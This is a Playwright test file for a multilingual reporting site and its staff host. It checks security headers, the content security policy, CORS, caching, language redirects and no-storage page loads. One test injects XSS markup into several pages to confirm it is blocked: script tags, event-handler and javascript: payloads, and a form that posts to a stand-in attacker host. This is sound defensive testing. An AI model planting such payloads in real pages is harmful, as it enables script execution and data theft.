// Tests the security headers of every response: pages, errors, files and redirects.
import { expect, test } from '@playwright/test'
import { RECORDING_PERMISSIONS, SECURITY_HEADERS } from '#protocol/security-headers'
import { languages } from '#content/languages.ts'
import { newPhone, ORIGIN, STAFF_ORIGIN } from '../support/phone.ts'
import { tracesOf } from '../support/traffic.ts'
import { slowUnlessFirst } from '../support/soak.ts'

const nameOf = (host: string): string => (host === ORIGIN ? 'site' : 'staff host')

const GETS: [string, number][] = [
  ...[
    '/ky/',
    '/ru/tell/',
    '/en/answer/',
    '/ky/help/',
    '/ru/about/',
    '/en/privacy/',
    '/ky/tell/sent/',
    '/robots.txt',
  ].map((path): [string, number] => [path, 200]),
  ...[
    '/nothing',
    '/ky/nothing/',
    '/en/nothing',
    '/api/nothing',
    '/staff/',
    '/api/staff/nothing',
  ].map((path): [string, number] => [path, 404]),
  ['/api/health', 200],
  ['/api/keys', 200],
  ['/api/keys/hybrid', 200],
  ['/exit', 200],
  ['/exit/now', 303],
]
const POSTS: [string, number][] = [
  ['/api/reports', 415],
  ['/api/inbox', 415],
  ['/api/inbox/destroy', 415],
  ['/api/form/ky', 415],
  ['/api/form/xx', 404],
  ['/api/keys', 405],
]

const STAFF_GETS: [string, number][] = [
  ['/', 302],
  ['/staff/', 200],
  ['/api/health', 200],
  ['/api/staff/me', 401],
  ...['/staff/nothing', '/_astro/nothing.js', '/api/staff/nothing', '/ky/about/', '/exit'].map(
    (path): [string, number] => [path, 404],
  ),
]
const STAFF_POSTS: [string, number][] = [
  ['/api/staff/sign-out', 403],
  ['/api/reports', 404],
]

/** Returns the headers expected in the response for a path. Only `tell` may record a voice. */
const expectedOf = (path: string): Readonly<Record<string, string>> => ({
  ...SECURITY_HEADERS,
  ...(path.endsWith('/tell/') && { 'Permissions-Policy': RECORDING_PERMISSIONS }),
})

for (const [method, host, cases] of [
  ['GET', ORIGIN, GETS],
  ['POST', ORIGIN, POSTS],
  ['GET', STAFF_ORIGIN, STAFF_GETS],
  ['POST', STAFF_ORIGIN, STAFF_POSTS],
] as const)
  for (const [path, status] of cases)
    test(`R15: ${method} ${path} of the ${nameOf(host)}: ${String(status)}, every header`, async ({
      request,
    }) => {
      const response = await request.fetch(host + path, {
        method,
        maxRedirects: 0,
        headers: { 'accept-language': 'de' },
      })
      expect(response.status()).toBe(status)
      const headers = response.headers()
      const open = headers['access-control-allow-origin'] === '*'
      expect(open).toBe(host === ORIGIN && /^\/api\/(keys|reports|inbox)/.test(path))
      for (const [name, value] of Object.entries(expectedOf(path)))
        expect(headers[name.toLowerCase()]).toBe(
          open && name === 'Cross-Origin-Resource-Policy' ? 'cross-origin' : value,
        )
      const policy = headers['content-security-policy'] ?? ''
      for (const part of [
        "default-src 'none'",
        "base-uri 'none'",
        "frame-ancestors 'none'",
        'form-action',
      ])
        expect(policy).toContain(part)
      expect(policy).not.toMatch(/'unsafe-(inline|eval|hashes)'|\*|https?:/)
      if (headers['content-type']?.startsWith('text/html') && path !== '/exit') {
        expect(policy).toContain("form-action 'self'")
        expect(policy).toContain("require-trusted-types-for 'script'")
        // The policy of a public page allows only script hashes. Only the staff page may run files
        // from its own origin.
        const scripts = /script-src ([^;]*)/.exec(policy)?.[1] ?? ''
        if (host === ORIGIN) expect(scripts).toMatch(/^('none'|('sha256-[^']+' ?)+)$/)
      }
      expect(headers['set-cookie']).toBeUndefined()
      if (path.startsWith('/api/') && !path.startsWith('/api/keys'))
        expect(headers['cache-control']).toContain('no-store')
    })

/** Without a policy, each of these elements would run or send words elsewhere. */
const INJECTED = `<script>window.ran = 1</script>
<img src=x onerror="window.ran = 1"><svg onload="window.ran = 1"></svg>
<iframe srcdoc="<script>parent.ran = 1</script>"></iframe>
<script src="data:text/javascript,window.ran = 1"></script>
<a id=injected href="javascript:window.ran = 1">x</a>
<base href="https://evil.example/"><style>html { color: rgb(1, 2, 3) }</style>
<form id=sent action="https://evil.example/" method=post><input name=a value=words></form>`

for (const path of ['/ky/', '/ky/tell/', '/ru/answer/', '/en/help/', '/staff/'])
  test(`R15: Markup that is injected into ${path} does not run and sends nothing out`, async ({
    page,
  }) => {
    const refused: string[] = []
    const asked: string[] = []
    page.on('console', (message) => refused.push(message.text()))
    page.on('request', (request) => asked.push(request.url()))
    await page.route(`**${path}`, async (route) => {
      const response = await route.fetch()
      const body = (await response.text()).replace('</body>', `${INJECTED}</body>`)
      expect(body).toContain(INJECTED)
      await route.fulfill({ response, body })
    })
    await page.goto(path === '/staff/' ? STAFF_ORIGIN + path : path)
    await page.evaluate(() => {
      document.getElementById('injected')?.click()
      ;(document.getElementById('sent') as HTMLFormElement).submit()
    })
    const markup = await page.evaluate(() => {
      try {
        document.body.insertAdjacentHTML('beforeend', '<b id=made>x</b>')
        return 'made'
      } catch (refusal) {
        return (refusal as Error).name
      }
    })
    expect(markup).toBe('TypeError')
    expect(await page.evaluate(() => 'ran' in window)).toBe(false)
    expect(await page.evaluate(() => getComputedStyle(document.documentElement).color)).not.toBe(
      'rgb(1, 2, 3)',
    )
    expect(refused.join()).toContain('Content Security Policy')
    const origin = new URL(page.url()).origin
    expect(
      asked.filter((url) => !url.startsWith(origin) && !/^(data|about|blob):/.test(url)),
    ).toEqual([])
  })

test('The address / leads to the language of the phone, or offers a choice of languages', async ({
  request,
}) => {
  const to = async (accept: string) => {
    const response = await request.get('/', {
      maxRedirects: 0,
      headers: { 'accept-language': accept },
    })
    return response.headers()['location'] ?? response.status()
  }
  expect(await to('ky-KG,ky;q=0.9,en;q=0.5')).toBe('/ky/')
  expect(await to('ru')).toBe('/ru/')
  expect(await to('de;q=0.9,en;q=0.4')).toBe('/en/')
  expect(await to('de')).toBe(200)
})

for (const lang of languages)
  for (const path of ['tell', 'answer', 'help', 'tell/sent'])
    test(
      `R13, R14, R29: The page /${lang}/${path}/ is one request and stores nothing`,
      slowUnlessFirst(lang),
      async ({ browser }) => {
        const { context, page, sent } = await newPhone(browser)
        await page.goto(`/${lang}/${path}/`, { waitUntil: 'networkidle' })
        const loaded = sent.map(({ url }) => url).filter((url) => !url.startsWith('data:'))
        expect(loaded).toEqual([page.url()])
        expect(await tracesOf(context)).toEqual([])
        await context.close()
      },
    )
